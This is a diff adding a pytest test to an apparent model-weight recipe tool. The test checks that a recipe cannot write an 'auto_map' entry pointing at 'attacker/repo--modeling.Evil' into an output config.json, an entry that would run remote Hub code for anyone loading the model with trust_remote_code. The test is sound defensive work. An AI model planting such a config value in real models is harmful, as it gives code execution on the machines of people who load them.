@@ -108,3 +108,28 @@ def test_a_recipe_cannot_copy_a_credential_into_its_output(tmp_path, monkeypatch
     )
     assert run("run", recipe, "-q").exit_code == 0
     assert load_file(tmp_path / "o.safetensors")["a.weight"].abs().sum() == 0
+
+
+@pytest.mark.parametrize("how", ["file", "set"])
+def test_a_recipe_cannot_point_its_outputs_config_at_code(tmp_path, monkeypatch, how):
+    """`config: ['auto_map={"AutoModel": "attacker/repo--modeling.Evil"}']` wrote an output
+    whose config.json runs the author's Hub code for anyone who loads it with
+    `trust_remote_code=True` (a config reinit itself refuses as a model)."""
+    monkeypatch.chdir(tmp_path)
+    src = tmp_path / "src"
+    src.mkdir()
+    save_file({"a.weight": torch.randn(4, 4)}, src / "model.safetensors")
+    (src / "config.json").write_text('{"model_type": "llama"}')
+    item = 'auto_map={"AutoModel": "attacker/repo--modeling.Evil"}'
+    recipe = tmp_path / "r.yaml"
+    text = "source: src\noutput: out\nrules: ['*.weight=zeros']\n"
+    recipe.write_text(text + (f"config: ['{item}']\n" if how == "file" else ""))
+    sets = ["--set", f"config=['{item}']"] if how == "set" else []
+    before = tree_state(tmp_path)
+    res = run("run", recipe, "-q", *sets)
+    assert res.exit_code == 2, res.output
+    assert "config auto_map: a recipe cannot" in res.stderr
+    assert_unchanged(before, tree_state(tmp_path))
+    # another config field is fine
+    recipe.write_text(text + "config: ['num_labels=3']\n")
+    assert run("run", recipe, "-q").exit_code == 0
